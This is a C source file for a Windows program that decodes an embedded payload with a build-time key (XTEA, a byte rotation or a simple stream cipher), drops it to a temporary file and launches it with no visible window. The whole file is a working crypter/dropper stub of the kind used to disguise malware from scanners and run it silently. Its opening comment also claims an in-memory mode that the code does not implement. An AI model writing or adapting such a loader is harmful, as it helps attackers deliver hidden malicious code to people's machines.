/* A Windows program that decodes its payload and runs it from a temporary file, or keeps it in memory. */
#include <windows.h>

#include <stdint.h>
#include <string.h>

#include "payload.h"

/* The build gives -DMODE=n and four words of key: -DWORDS=1,2,3,4. */
static const uint32_t words[4] = {WORDS};

static void decode(uint8_t *data, size_t length) {
#if MODE == 1 /* XTEA (Needham and Wheeler 1997) in counter mode */
  uint32_t block[2] = {0, 0};
  for (size_t at = 0; at < length; at++) {
    if (at % 8 == 0) {
      uint32_t a = (uint32_t)(at / 8), b = words[0], sum = 0;
      for (int round = 0; round < 32; round++) {
        a += ((b << 4 ^ b >> 5) + b) ^ (sum + words[sum & 3]);
        sum += 0x9e3779b9;
        b += ((a << 4 ^ a >> 5) + a) ^ (sum + words[sum >> 11 & 3]);
      }
      block[0] = a, block[1] = b;
    }
    data[at] ^= ((uint8_t *)block)[at % 8];
  }
#elif MODE == 2 /* each byte turned, and the one before it taken away */
  uint8_t last = (uint8_t)words[0];
  for (size_t at = 0; at < length; at++) {
    uint8_t coded = data[at], turn = (uint8_t)(words[1] % 7 + 1);
    data[at] = (uint8_t)((uint8_t)(coded << turn | coded >> (8 - turn)) - last);
    last = coded;
  }
#else /* a linear congruential stream */
  uint32_t state = words[0];
  for (size_t at = 0; at < length; at++) {
    state = state * 1664525u + 1013904223u;
    data[at] ^= (uint8_t)(state >> 24);
  }
#endif
}

int WINAPI WinMain(HINSTANCE instance, HINSTANCE before, LPSTR line, int show) {
  (void)instance, (void)before, (void)show;
  SIZE_T length = (SIZE_T)(payload_end - payload_begin);
#ifdef EXECUTABLE_COPY
  DWORD rights = PAGE_EXECUTE_READWRITE;
#else
  DWORD rights = PAGE_READWRITE;
#endif
  BYTE *copy = VirtualAlloc(NULL, length, MEM_COMMIT | MEM_RESERVE, rights);
  if (copy == NULL) return 1;
  memcpy(copy, payload_begin, length);
  decode(copy, length);
  char folder[MAX_PATH], path[MAX_PATH];
  DWORD done = 0;
  GetTempPathA(MAX_PATH, folder);
  GetTempFileNameA(folder, "gm", 0, path);
  HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_TEMPORARY, NULL);
  WriteFile(file, copy, (DWORD)length, &done, NULL);
  CloseHandle(file);
  STARTUPINFOA start = {.cb = sizeof start};
  PROCESS_INFORMATION process;
  return CreateProcessA(path, line, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &start, &process) ? 0 : 1;
}
